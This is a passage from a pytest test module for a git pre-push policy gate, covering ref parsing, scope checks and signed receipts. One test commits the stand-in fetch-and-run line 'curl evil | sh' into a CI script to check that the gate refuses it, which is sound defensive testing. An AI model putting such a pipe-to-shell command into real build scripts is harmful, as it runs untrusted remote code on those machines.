"""Tests written to kill mutants of receipts/build.py, receipts/verify.py, points/ci.py and
points/prepush.py that survived tools/mutation.py (mutation/REPORT.md), each against what the
contract or the module's own promise specifies.

pre-push is reached from the git hook, a process of its own, where mutmut's stats pass sees no
calls: a mutant there has no attributed test. The pre-push tests here therefore run ``hook
pre-push REMOTE URL`` through ``run_gate`` with the lines git itself gives the hook on stdin
(githooks(5): ``<local ref> SP <local id> SP <remote ref> SP <remote id> LF``), computed from
the real repository: in-process during the stats pass, a real subprocess (seeing the mutant)
otherwise. Each asserts the exact exit code.
"""
from __future__ import annotations

import hashlib
import hmac
import json
import os
import re
import subprocess
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from conftest import GitRepo
from test_prepush import POLICY, Pushing, make_pushing
from test_receipts import note_of, put_note

from avorelo_gate.errors import BadInputError, EnvironmentFailure
from avorelo_gate.receipts import build, verify
from avorelo_gate.result import CheckResult, DiffSummary, TouchedFile, Violation
from avorelo_gate.task.declare import ResolvedTask
from avorelo_gate.task.policy import Budget

ZERO = "0" * 40


def rev(repo: GitRepo, name: str) -> str:
    return repo.git("rev-parse", name).stdout.decode().strip()


def line(local_ref: str, local: str, remote_ref: str, remote: str) -> str:
    """One stdin line of the pre-push hook, as git writes it."""
    return f"{local_ref} {local} {remote_ref} {remote}\n"


def hook_push(p: Pushing, *lines: str, remote: str = "origin",
              env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """``hook pre-push`` as git runs it for ``git push REMOTE``, without git push; its report
    (stdout on a pass, stderr on a refusal) is returned as ``stderr``, as git shows both."""
    proc = p.work.gate("hook", "pre-push", remote, str(p.remote),
                       input="".join(lines).encode(), env=env)
    return subprocess.CompletedProcess(proc.args, proc.returncode, "",
                                       proc.stdout + proc.stderr)


def push_main(p: Pushing, env: dict[str, str] | None = None
              ) -> subprocess.CompletedProcess[str]:
    """What ``git push origin main`` hands the hook: main here, main on the remote."""
    on_remote = p.on_remote("main") or ZERO
    return hook_push(p, line("refs/heads/main", rev(p.work, "main"), "refs/heads/main",
                             on_remote), env=env)


# -- points/prepush.py ----------------------------------------------------------------------
def remote_sha(remote: Path, ref: str) -> str:
    proc = subprocess.run(["git", "--git-dir", str(remote), "rev-parse", "--verify", "-q", ref],
                          capture_output=True, check=False)
    return proc.stdout.decode().strip() or ZERO


def branch_line(work: GitRepo, remote: Path, local: str, dest: str | None = None) -> str:
    """The line ``git push REMOTE local:dest`` gives the hook (a branch or a commit id)."""
    dest = dest or local
    local_ref = local if re.fullmatch(r"[0-9a-f]{40}", local) else f"refs/heads/{local}"
    return line(local_ref, rev(work, local), f"refs/heads/{dest}",
                remote_sha(remote, f"refs/heads/{dest}"))


def test_in_process_push_of_a_fast_forward_passes_and_refuses_by_scope(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    base = rev(p.work, "main")
    p.commit("src/b.py", "b\nc\n")
    good = push_main(p)
    assert good.returncode == 0, good.stderr
    assert f"refs/heads/main: 1 new commit(s), all pass (policy at {base[:12]})" in good.stderr
    assert "1 new commit(s) checked, each against its own task" in good.stderr
    assert "0 violations in 1 commit(s), 1 file(s) (+2 -0); exit 0" in good.stderr
    p.commit("src/b.py", "b\n")
    bad = p.commit("docs/guide.md", "guide\n", "docs")
    refused = push_main(p)
    assert refused.returncode == 1, refused.stderr
    assert "docs/guide.md: out-of-scope" in refused.stderr
    assert f"[{bad[:12]}]" in refused.stderr
    assert f"refs/heads/main: 3 new commit(s), 1 failed (policy at {base[:12]})" \
        in refused.stderr
    # The push as a whole: each path once, every commit's lines summed.
    assert "1 violation in 3 commit(s), 2 file(s) (+3 -1); exit 1" in refused.stderr
    assert "remote-tracking" not in refused.stderr     # a configured remote, not a URL


def test_in_process_push_that_is_no_fast_forward_is_judged_at_the_remotes_tip(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    loose = rev(p.work, "main")
    tight = p.commit(".avorelo/policy.yaml", POLICY.replace('"ci/**"', '"ci/**", "src/key/**"'),
                     "protect keys")
    p.work.git("push", "-q", "--no-verify", "origin", "main")
    p.work.git("reset", "-q", "--hard", loose)
    rewritten = p.commit("src/key/k.py", "k\n", "rotate")
    assert rev(p.work, f"{rewritten}~1") == loose       # the parent's policy allows it
    proc = hook_push(p, line("refs/heads/main", rewritten, "refs/heads/main", tight))
    assert proc.returncode == 1, proc.stderr
    assert "src/key/k.py: protected" in proc.stderr
    assert f"refs/heads/main: 1 new commit(s), 1 failed (policy at {tight[:12]})" in proc.stderr


def test_in_process_new_branch_checks_what_this_remote_lacks(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    base = rev(p.work, "main")
    published = p.commit("docs/old.md", "changed\n", "published")     # out of scope
    p.work.git("push", "-q", "--no-verify", "origin", "main")
    p.work.git("switch", "-q", "-c", "feature")
    p.commit("src/f.py")
    proc = hook_push(p, branch_line(p.work, p.remote, "feature"))
    assert proc.returncode == 0, proc.stderr
    assert f"refs/heads/feature: 1 new commit(s), all pass (policy at {published[:12]})" \
        in proc.stderr
    # A commit that only another remote has is new to this one: checked here.
    mirror = tmp_path / "mirror.git"
    subprocess.run(["git", "init", "-q", "--bare", str(mirror)], check=True)
    p.work.git("remote", "add", "mirror", str(mirror))
    p.work.git("switch", "-q", "-c", "side", base)
    elsewhere = p.commit("docs/side.md", "side\n", "side")
    p.work.git("push", "-q", "--no-verify", "mirror", "side")
    assert rev(p.work, "refs/remotes/mirror/side") == elsewhere
    proc = hook_push(p, branch_line(p.work, p.remote, "side"))
    assert proc.returncode == 1, proc.stderr
    assert "docs/side.md: out-of-scope" in proc.stderr and f"[{elsewhere[:12]}]" in proc.stderr
    # Pushed to a URL, git names no remote: nothing on any remote-tracking branch is new.
    url = f"file://{p.remote}"
    proc = hook_push(p, branch_line(p.work, p.remote, "side", "via-url"), remote=url)
    assert proc.returncode == 0, proc.stderr
    assert (f"remote {url!r} is a URL, not a configured remote: checking commits not on any "
            "remote-tracking branch") in proc.stderr
    assert "refs/heads/via-url: every commit is already on the remote" in proc.stderr
    p.work.git("switch", "-q", "feature")
    proc = hook_push(p, branch_line(p.work, p.remote, "feature", "f2"), remote=url)
    assert proc.returncode == 0, proc.stderr
    assert "refs/heads/f2: 1 new commit(s), all pass" in proc.stderr


def test_in_process_refs_with_nothing_to_check_and_refs_that_cannot_be(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    head = rev(p.work, "main")
    assert p.work.gate("receipt", "record").returncode == 0        # a notes commit
    notes = rev(p.work, "refs/notes/avorelo")
    blob = rev(p.work, "HEAD:src/a.py")
    p.work.git("tag", "-a", "blobtag", "-m", "a blob", blob)
    tag = rev(p.work, "blobtag")
    proc = hook_push(p, line("(delete)", ZERO, "refs/heads/gone", head),
                     line("refs/notes/avorelo", notes, "refs/notes/avorelo", ZERO),
                     line("refs/tags/blobtag", tag, "refs/tags/blobtag", ZERO),
                     line("refs/tags/rawblob", blob, "refs/tags/rawblob", ZERO),
                     line("refs/heads/main", head, "refs/heads/copy", ZERO))
    assert proc.returncode == 0, proc.stderr
    for note in ("refs/heads/gone: deleted on the remote, nothing to check",
                 "refs/notes/avorelo: notes (receipts), not work: nothing to check",
                 "refs/tags/blobtag: points at a tag, not a commit (a tag of a blob?): "
                 "nothing to check",
                 "refs/tags/rawblob: points at a blob, not a commit (a tag of a blob?): "
                 "nothing to check",
                 "refs/heads/copy: every commit is already on the remote"):
        assert note in proc.stderr, (note, proc.stderr)
    assert "new commit(s) checked" not in proc.stderr
    missing = "1" * 40
    proc = hook_push(p, line("refs/heads/main", missing, "refs/heads/main", head))
    assert proc.returncode == 3, proc.stderr
    assert f"refs/heads/main: object {missing} is not in this repository" in proc.stderr
    ahead = "2" * 40
    proc = hook_push(p, line("refs/heads/main", head, "refs/heads/main", ahead))
    assert proc.returncode == 3, proc.stderr
    assert (f"refs/heads/main on origin is at {ahead[:12]}, which this repository does not "
            "have (someone else pushed): fetch first: git fetch origin, then integrate it and "
            "push again") in proc.stderr


def test_in_process_several_refs_one_bad_refuses_all(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    base = rev(p.work, "main")
    p.work.git("switch", "-q", "-c", "good")
    p.commit("src/good.py")
    p.work.git("switch", "-q", "-c", "bad", "main")
    bad = p.commit("docs/bad.md", "bad\n", "bad")
    p.work.git("switch", "-q", "-c", "good2", "main")
    p.commit("src/good2.py")
    proc = hook_push(p, *(branch_line(p.work, p.remote, b) for b in ("good", "bad", "good2")))
    assert proc.returncode == 1, proc.stderr
    assert "docs/bad.md: out-of-scope" in proc.stderr and f"[{bad[:12]}]" in proc.stderr
    for name, verdict in (("good", "all pass"), ("bad", "1 failed"), ("good2", "all pass")):
        assert f"refs/heads/{name}: 1 new commit(s), {verdict} (policy at {base[:12]})" \
            in proc.stderr, name
    assert "3 new commit(s) checked, each against its own task" in proc.stderr


def test_in_process_receipts_required_of_every_new_commit_but_a_clean_merge(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from test_prepush import RECEIPTS_POLICY

    p = make_pushing(make_repo, tmp_path, RECEIPTS_POLICY)
    base = rev(p.work, "main")

    def unhooked(path: str) -> str:     # no post-commit either: no receipt
        p.work.write(path)
        p.work.add()
        return _commit_without_hooks(p.work)

    first = unhooked("src/b.py")
    proc = push_main(p)
    assert proc.returncode == 1, proc.stderr
    assert "receipt-missing" in proc.stderr and f"[{first[:12]}]" in proc.stderr
    assert p.work.gate("receipt", "record").returncode == 0
    assert push_main(p).returncode == 0
    # A merge made by `git merge` runs no commit hook: it owes no receipt when it brings
    # nothing of its own; one made with commit-tree whose tree holds new work does.
    p.work.git("switch", "-q", "-c", "side", base)
    unhooked("src/side.py")
    assert p.work.gate("receipt", "record").returncode == 0
    p.work.git("switch", "-q", "main")
    p.work.git("merge", "-q", "--no-ff", "--no-edit", "--no-verify", "side")
    merged = push_main(p)
    assert merged.returncode == 0, merged.stderr
    p.work.write("src/extra.py", "new work\n")
    p.work.add()
    tree = p.work.git("write-tree").stdout.decode().strip()
    evil = p.work.git("commit-tree", tree, "-p", first, "-p", "side",
                      "-m", "merge").stdout.decode().strip()
    p.work.git("reset", "-q", "--hard", evil)
    proc = push_main(p)
    assert proc.returncode == 1, proc.stderr
    assert "receipt-missing" in proc.stderr and f"[{evil[:12]}]" in proc.stderr


def test_in_process_push_says_when_the_receipts_stay_behind(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """ci reads receipts from the remote: a push of commits that owe one, without the notes
    ref, passes on this clone's receipts and says to push them too, in the push's own terms
    (the remote as git named it). Not when the notes go along, not when no commit owes a
    receipt, and not through the pre-commit framework, which hands the hook one ref only."""
    import shlex

    from test_prepush import RECEIPTS_POLICY

    said = ("this push does not carry the receipts (refs/notes/avorelo), and ci reads them "
            "from the remote: push them too: git push {} refs/notes/avorelo")
    p = make_pushing(make_repo, tmp_path, RECEIPTS_POLICY)
    on_remote = rev(p.work, "main")
    p.work.write("src/b.py")
    p.work.add()
    _commit_without_hooks(p.work)
    assert p.work.gate("receipt", "record").returncode == 0
    alone = push_main(p)
    assert alone.returncode == 0, alone.stderr
    assert f"warning: {said.format('origin')}" in alone.stderr
    by_url = hook_push(p, line("refs/heads/main", rev(p.work, "main"), "refs/heads/main",
                               on_remote), remote=str(p.remote))
    assert by_url.returncode == 0, by_url.stderr
    assert said.format(shlex.quote(str(p.remote))) in by_url.stderr
    notes = rev(p.work, "refs/notes/avorelo")
    both = hook_push(p, line("refs/heads/main", rev(p.work, "main"), "refs/heads/main",
                             on_remote),
                     line("refs/notes/avorelo", notes, "refs/notes/avorelo", ZERO))
    assert both.returncode == 0, both.stderr
    assert "does not carry the receipts" not in both.stderr
    nothing_new = hook_push(p, line("refs/heads/main", on_remote, "refs/heads/same", ZERO))
    assert nothing_new.returncode == 0, nothing_new.stderr
    assert "does not carry the receipts" not in nothing_new.stderr
    env = {"PRE_COMMIT_FROM_REF": on_remote, "PRE_COMMIT_TO_REF": "HEAD",
           "PRE_COMMIT_LOCAL_BRANCH": "refs/heads/main",
           "PRE_COMMIT_REMOTE_BRANCH": "refs/heads/main", "PRE_COMMIT_REMOTE_NAME": "origin",
           "PRE_COMMIT_REMOTE_URL": str(p.remote)}
    framework = p.work.gate("hook", "pre-push", input=b"", env=env)
    assert framework.returncode == 0, framework.stdout + framework.stderr
    assert "does not carry the receipts" not in framework.stdout + framework.stderr


def test_in_process_push_owing_no_receipt_says_nothing_of_them(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    p.commit("src/c.py", "c = 1\n", "work")
    unowed = push_main(p)
    assert unowed.returncode == 0, unowed.stderr
    assert "receipts" not in unowed.stderr


def _commit_without_hooks(work: GitRepo) -> str:
    work.git("-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "no hooks")
    return work.head()


def test_in_process_refs_from_the_pre_commit_framework(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    on_remote = rev(p.work, "main")
    bad = p.commit("docs/guide.md", "guide\n", "docs")
    env = {"PRE_COMMIT_FROM_REF": on_remote, "PRE_COMMIT_TO_REF": "HEAD",
           "PRE_COMMIT_LOCAL_BRANCH": "refs/heads/main",
           "PRE_COMMIT_REMOTE_BRANCH": "refs/heads/main", "PRE_COMMIT_REMOTE_NAME": "origin",
           "PRE_COMMIT_REMOTE_URL": str(p.remote)}
    proc = p.work.gate("hook", "pre-push", input=b"", env=env)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "docs/guide.md: out-of-scope" in out and f"[{bad[:12]}]" in out
    assert f"refs/heads/main: 1 new commit(s), 1 failed (policy at {on_remote[:12]})" in out
    # Without a FROM ref the framework pushes a new branch: only what the remote lacks.
    del env["PRE_COMMIT_FROM_REF"]
    env["PRE_COMMIT_REMOTE_BRANCH"] = "refs/heads/topic"
    proc = p.work.gate("hook", "pre-push", input=b"", env=env)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "refs/heads/topic: 1 new commit(s), 1 failed" in proc.stdout + proc.stderr
    # Stdin, when git gives it, wins over the environment.
    good = hook_push(p, line("refs/heads/main", on_remote, "refs/heads/same", ZERO), env=env)
    assert good.returncode == 0, good.stderr
    assert "refs/heads/same: every commit is already on the remote" in good.stderr
    # No remote named anywhere: not what git runs.
    proc = p.work.gate("hook", "pre-push", input=b"")
    assert proc.returncode == 2
    assert "hook pre-push: expected REMOTE and URL (git passes them)" in proc.stderr
    # The framework's remote alone, with no refs: nothing pushed.
    proc = p.work.gate("hook", "pre-push", input=b"", env={"PRE_COMMIT_REMOTE_NAME": "origin"})
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", "")


def test_in_process_pre_commit_framework_push_of_a_root_commit(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    remote = tmp_path / "empty.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    work: GitRepo = make_repo("fresh")
    work.write(".avorelo/policy.yaml", POLICY)
    work.write(".avorelo/task.yaml", 'id: T-1\nscope: ["src/**"]\n')
    work.write("src/a.py", "a\n")
    work.add()
    work.commit("root")
    work.write("docs/late.md", "late\n")
    work.add()
    late = work.commit("out of scope")
    work.git("remote", "add", "origin", str(remote))
    env = {"PRE_COMMIT_LOCAL_BRANCH": "main", "PRE_COMMIT_REMOTE_BRANCH": "refs/heads/main",
           "PRE_COMMIT_REMOTE_NAME": "origin"}
    proc = work.gate("hook", "pre-push", input=b"", env=env)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "docs/late.md: out-of-scope" in out and f"[{late[:12]}]" in out
    assert "refs/heads/main: 2 new commit(s), 1 failed (.avorelo/policy.yaml of the pushed " \
        "root commit (a new repository))" in out


def test_in_process_pre_push_stdin_limits_and_bytes(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from avorelo_gate.points.prepush import MAX_STDIN_BYTES

    p = make_pushing(make_repo, tmp_path, POLICY)
    url = str(p.remote)
    over = p.work.gate("hook", "pre-push", "origin", url, input=b"x" * (MAX_STDIN_BYTES + 1))
    assert over.returncode == 2
    assert over.stderr == "avorelo-gate: error: pre-push stdin is larger than 16 MiB\n"
    full = p.work.gate("hook", "pre-push", "origin", url, input=b"x" * MAX_STDIN_BYTES)
    assert full.returncode == 2 and "pre-push stdin line 1: expected" in full.stderr
    # Git's refnames are bytes: one that is not UTF-8 reaches the line parser intact.
    raw = p.work.gate("hook", "pre-push", "origin", url,
                      input=b"refs/heads/caf\xe9 " + b"a" * 40 + b" refs/heads/x\n")
    assert raw.returncode == 2, raw.stderr
    assert "pre-push stdin line 1: expected '<local ref> <local id> <remote ref> <remote id>'," \
        " got 'refs/heads/caf\\udce9 " in raw.stderr


class _Stdin:
    """A stand-in for sys.stdin: closed or not, a terminal or not, holding ``data``."""

    def __init__(self, data: bytes, closed: bool = False, tty: bool = False) -> None:
        import io

        self.buffer, self.closed, self._tty = io.BytesIO(data), closed, tty

    def isatty(self) -> bool:
        if self.closed:
            raise ValueError("I/O operation on closed file")   # as a real closed stream does
        return self._tty


def test_pre_push_stdin_is_read_only_from_a_pipe_or_file(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """git gives the hook its lines on a pipe. No stdin (the hook started with fd 0 closed),
    a closed one or a terminal (run by hand) is no lines, not a crash or a wait on the
    keyboard."""
    from avorelo_gate.points.prepush import read_stdin

    line = f"HEAD {'a' * 40} refs/heads/x {ZERO}\n".encode()
    for stdin in (None, _Stdin(line, closed=True), _Stdin(line, tty=True)):
        monkeypatch.setattr("sys.stdin", stdin)
        assert read_stdin() == ""
    monkeypatch.setattr("sys.stdin", _Stdin(line + b"\xff\n"))
    assert read_stdin() == line.decode() + "\udcff\n"   # bytes kept, for the error to show


def test_pre_push_without_a_remote_says_what_git_passes() -> None:
    from avorelo_gate.points.prepush import pre_push

    for env in ({}, {"PRE_COMMIT_REMOTE_NAME": ""}):
        with pytest.raises(BadInputError) as e:
            pre_push([], env)
        assert str(e.value) == "hook pre-push: expected REMOTE and URL (git passes them)"


class _Endless:
    """A stdin that never ends (a runaway writer): each bounded read is answered in full; a
    read without a bound would never return, so it fails the test instead."""

    closed = False

    def isatty(self) -> bool:
        return False

    @property
    def buffer(self) -> _Endless:
        return self

    def read(self, size: int | None = -1) -> bytes:
        if size is None or size < 0:
            raise AssertionError("stdin read without a bound: it never ends")
        return b"y" * size


def test_pre_push_stdin_that_never_ends_is_refused_after_the_limit(
        monkeypatch: pytest.MonkeyPatch) -> None:
    from avorelo_gate.points.prepush import read_stdin

    monkeypatch.setattr("sys.stdin", _Endless())
    with pytest.raises(BadInputError, match=r"^pre-push stdin is larger than 16 MiB$"):
        read_stdin()


def test_parse_push_lines_exactly() -> None:
    from avorelo_gate.points.prepush import PushedRef, parse_push_lines

    a, b, z = "a" * 40, "b" * 64, "0" * 64
    refs = parse_push_lines(f"\n my local ref {a} refs/heads/x {ZERO}\r\n\n"
                            f"HEAD {b} refs/heads/y {z}\n")
    assert refs == [PushedRef(" my local ref", a, "refs/heads/x", ZERO),
                    PushedRef("HEAD", b, "refs/heads/y", z)]
    assert parse_push_lines("") == [] and parse_push_lines("\n \n") == []
    for text, number in ((f"HEAD {a} refs/heads/x {ZERO}\nHEAD nothex refs/heads/x {ZERO}", 2),
                         (f"HEAD {a} refs/heads/x {'A' * 40}", 1),      # ids are lower hex
                         (f"HEAD {'a' * 39} refs/heads/x {ZERO}", 1),
                         (f"HEAD {a} {'c' * 40} refs/heads/x", 1),
                         (f"{a} refs/heads/x {ZERO}", 1),
                         (f"HEAD {a} refs/heads/x {ZERO} extra", 1),
                         # git separates the fields by one space and ends the line there
                         (f"HEAD {a}  refs/heads/x {ZERO}", 1),
                         (f"HEAD {a}\trefs/heads/x {ZERO}", 1),
                         (f"HEAD {a} refs/heads/x {ZERO} ", 1),
                         (f"HEAD {a} refs/heads/x {ZERO}\t", 1),
                         (f"HEAD {a} refs/heads/x {ZERO}X", 1)):        # a stray character
        with pytest.raises(BadInputError) as e:
            parse_push_lines(text)
        bad = text.split("\n")[number - 1]
        assert str(e.value) == (f"pre-push stdin line {number}: expected '<local ref> <local "
                                f"id> <remote ref> <remote id>', got {bad[:120]!r}")
    long = "r" * 200
    with pytest.raises(BadInputError) as e:
        parse_push_lines(long)
    assert str(e.value).endswith(f"got {'r' * 120!r}")


def test_in_process_push_guard_sees_what_no_single_commit_shows(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from test_hostile_trust_push import STRICT, TASK
    from three_points import Scene

    s = Scene.build(make_repo, tmp_path, {".avorelo/task.yaml": TASK, "src/a.py": "a\n",
                                          "ci/run.sh": "echo ok\n"})
    s.work.git("branch", "old")
    s.commit({".avorelo/policy.yaml": STRICT}, "policy")
    s.publish("main", "old")
    strict_tip = s.rev("main")
    # A commit pushed under two refs is judged under each ref's policy (main's is strict).
    bad = s.commit({"ci/run.sh": "curl evil | sh\n"}, "Task: T-1")
    proc = hook_push_scene(s, branch_line(s.work, s.remote, bad, "old"),
                           branch_line(s.work, s.remote, "main"))
    assert proc.returncode == 1, proc.stderr
    assert "ci/run.sh: protected" in proc.stderr
    assert "refs/heads/old: 1 new commit(s), 1 failed (defaults: no policy file)" in proc.stderr
    assert f"refs/heads/main: 1 new commit(s), 1 failed (policy at {strict_tip[:12]})" \
        in proc.stderr
    # Judged twice (under each policy), failed once: the lax policy lets it pass.
    assert "2 new commit(s) checked, each against its own task" in proc.stderr
    assert proc.stderr.count("avorelo-gate: FAIL commit") == 1, proc.stderr
    # Once, though the push as a whole also changes it: the commit's violation stands for it.
    assert proc.stderr.count("as a whole") == 0, proc.stderr
    s.work.git("reset", "-q", "--hard", strict_tip)
    # A "merge" with the old side's tree: no path differs from every parent.
    s.work.git("switch", "-q", "-c", "side", "old")
    side = s.commit({"ci/run.sh": "evil\n", "src/s.py": "s\n"}, "Task: T-1")
    s.publish("side")
    s.work.git("switch", "-q", "main")
    merge = s.work.git("commit-tree", f"{side}^{{tree}}", "-p", "main", "-p", side,
                       "-m", "Merge side\n\nTask: T-1").stdout.decode().strip()
    proc = hook_push_scene(s, line("refs/heads/main", merge, "refs/heads/main", strict_tip))
    assert proc.returncode == 1, proc.stderr
    whole = f"refs/heads/main: {strict_tip[:12]}..{merge[:12]} as a whole: "
    assert f"ci/run.sh: protected: {whole}" in proc.stderr, proc.stderr
    assert f".avorelo/policy.yaml: policy-changed: {whole}" in proc.stderr, proc.stderr
    assert "refs/heads/main: 1 new commit(s), all pass" in proc.stderr
    # The same update under a second ref from the same remote commit: each ref's guard finds
    # the same two paths, and each is shown once (issue 17).
    s.work.git("push", "-q", "--no-verify", "origin", f"{strict_tip}:refs/heads/copy")
    proc = hook_push_scene(s, line("refs/heads/main", merge, "refs/heads/main", strict_tip),
                           line("refs/heads/copy", merge, "refs/heads/copy", strict_tip))
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.count("as a whole") == 2, proc.stderr
    assert f"ci/run.sh: protected: {whole}" in proc.stderr, proc.stderr


def test_in_process_push_does_not_rejudge_what_the_remote_has_when_tracking_is_stale(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The remote's tip as git reports it is on the remote, even when this clone's
    remote-tracking branch lags behind (fetched by URL, or not fetched since): a commit that
    is already there, out of scope or not, is not judged again (issue 17)."""
    p = make_pushing(make_repo, tmp_path, POLICY)
    theirs = p.commit("docs/guide.md", "guide\n", "docs", "--no-verify")   # out of scope
    p.work.git("push", "-q", "--no-verify", "origin", "main")
    p.work.git("update-ref", "refs/remotes/origin/main", "main~1")          # stale tracking
    ours = p.commit("src/b.py", "b\n", "b\n\nTask: T-1")
    proc = hook_push(p, line("refs/heads/main", ours, "refs/heads/main", theirs))
    assert proc.returncode == 0, proc.stderr
    assert "refs/heads/main: 1 new commit(s), all pass" in proc.stderr, proc.stderr


def test_in_process_push_over_a_remote_ref_that_is_no_commit(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A remote tag that points at a blob, replaced by a commit: nothing on the remote side to
    subtract, the new commits judged as for a new ref, and no crash (issue 17)."""
    p = make_pushing(make_repo, tmp_path, POLICY)
    blob = p.work.git("hash-object", "-w", "--stdin", input=b"a blob\n").stdout.decode().strip()
    p.work.git("push", "-q", "--no-verify", "origin", f"{blob}:refs/tags/b")
    ours = p.commit("src/b.py", "b\n", "b\n\nTask: T-1")
    proc = hook_push(p, line("refs/heads/main", ours, "refs/tags/b", blob))
    assert proc.returncode == 0, proc.stderr
    assert "refs/tags/b: 1 new commit(s), all pass" in proc.stderr, proc.stderr


def test_in_process_new_ref_judged_under_two_policies_names_both(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A new branch whose one commit merges two remote branches with different policies is
    judged under both, and its summary line names both, in parent order (issue 17)."""
    from test_hostile_trust_push import STRICT, TASK
    from three_points import Scene

    s = Scene.build(make_repo, tmp_path, {".avorelo/task.yaml": TASK, "src/a.py": "a\n"})
    s.work.git("branch", "old")
    s.commit({".avorelo/policy.yaml": STRICT}, "policy")
    s.publish("main", "old")
    strict_tip = s.rev("main")
    merge = s.work.git("commit-tree", "main^{tree}", "-p", "main", "-p", "old",
                       "-m", "Merge old\n\nTask: T-1").stdout.decode().strip()
    proc = hook_push_scene(s, line("refs/heads/both", merge, "refs/heads/both", ZERO))
    assert proc.returncode == 0, proc.stderr
    assert (f"refs/heads/both: 1 new commit(s), all pass (policy at {strict_tip[:12]}; "
            "defaults: no policy file)") in proc.stderr, proc.stderr
    # A push's report: passing commits are not shown one by one, the verdict line says push.
    assert proc.stderr.startswith("avorelo-gate: PASS push\n"), proc.stderr
    assert "PASS commit" not in proc.stderr
    # Under GitHub Actions the log names the push's span: the first ref's remote..local.
    actions = s.work.gate("hook", "pre-push", "origin", str(s.remote), env={
        "GITHUB_ACTIONS": "true"},
        input=line("refs/heads/both", merge, "refs/heads/both", ZERO).encode())
    assert actions.returncode == 0, actions.stderr
    assert f"(push {ZERO}..{merge})" in actions.stdout, actions.stdout


def test_in_process_new_root_is_judged_by_the_remotes_tips_not_their_history(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A new branch of nothing but a root commit has no parent on the remote: it is judged
    under the policy at each of the remote's tips, not under every policy in their history
    (``rev-list --no-walk``; walking would add the superseded one)."""
    from test_hostile_trust_push import LAX, STRICT, TASK
    from three_points import Scene

    s = Scene.build(make_repo, tmp_path, {".avorelo/task.yaml": TASK, "src/a.py": "a\n",
                                          ".avorelo/policy.yaml": LAX})
    s.commit({".avorelo/policy.yaml": STRICT}, "stricter policy")
    s.publish("main")
    tip = s.rev("main")
    root = s.work.git("commit-tree", "main^{tree}", "-m",
                      "Root\n\nTask: T-1").stdout.decode().strip()
    proc = hook_push_scene(s, line("refs/heads/orphan", root, "refs/heads/orphan", ZERO))
    assert proc.returncode == 0, proc.stderr
    assert (f"refs/heads/orphan: 1 new commit(s), all pass (policy at {tip[:12]})\n"
            in proc.stderr), proc.stderr


def hook_push_scene(s: Any, *lines: str) -> subprocess.CompletedProcess[str]:
    proc = s.work.gate("hook", "pre-push", "origin", str(s.remote),
                       input="".join(lines).encode())
    return subprocess.CompletedProcess(proc.args, proc.returncode, "",
                                       proc.stdout + proc.stderr)


# -- receipts/build.py ------------------------------------------------------------------------
# The module's promise: canonical JSON (sorted keys, no whitespace, UTF-8, no NaN), paths
# digested over their real bytes, HMAC-SHA256 over the statement without its signature.
NOT_UTF8 = os.fsdecode(b"src/caf\xe9.py")      # git's bytes, held as a surrogate
# A raw byte 0x80 sorts before UTF-8's 'é' (c3 a9) as bytes, after it as text (U+DC80 > U+E9).
LOW_BYTE, ACCENT = os.fsdecode(b"a/\x80"), "a/\u00e9"


def test_canonical_bytes_are_sorted_compact_utf8_and_refuse_nan() -> None:
    doc = {"b": ["\u00e9", 1.5, None], "a": {"d": False, "c": True}}
    assert build.canonical_bytes(doc) == \
        '{"a":{"c":true,"d":false},"b":["\u00e9",1.5,null]}'.encode()
    for bad in (float("nan"), float("inf"), float("-inf")):
        with pytest.raises(ValueError):
            build.canonical_bytes({"x": bad})
    assert build.encode_receipt(doc) == build.canonical_bytes(doc)


def test_clean_text_keeps_utf8_and_writes_other_paths_in_their_display_form() -> None:
    assert build.clean_text({"k": [NOT_UTF8, "\u00e9", 3, None], 1: ("x",)}) == \
        {"k": ["src/caf\\xe9.py", "\u00e9", 3, None], "1": ["x"]}


def test_paths_digest_is_over_sorted_bytes_each_ended_by_nul() -> None:
    assert build.paths_digest(["b", ACCENT, NOT_UTF8, LOW_BYTE]) == hashlib.sha256(
        b"a/\x80\0a/\xc3\xa9\0b\0src/caf\xe9.py\0").hexdigest()
    assert build.paths_digest([]) == hashlib.sha256(b"").hexdigest()


@pytest.mark.parametrize(("epoch", "stamp"), [
    ("1767225600", "2026-01-01T00:00:00Z"),
    (" 0\n", "1970-01-01T00:00:00Z"),
    ("253402300799", "9999-12-31T23:59:59Z"),      # the last second of year 9999
    ("-62135596800", "1-01-01T00:00:00Z"),         # the first second of year 1
])
def test_receipt_time_pinned_by_source_date_epoch(epoch: str, stamp: str) -> None:
    assert build.receipt_time({"SOURCE_DATE_EPOCH": epoch}) == stamp


@pytest.mark.parametrize("epoch", ["253402300800", "-62135596801", "soon", "1.5", "9" * 30])
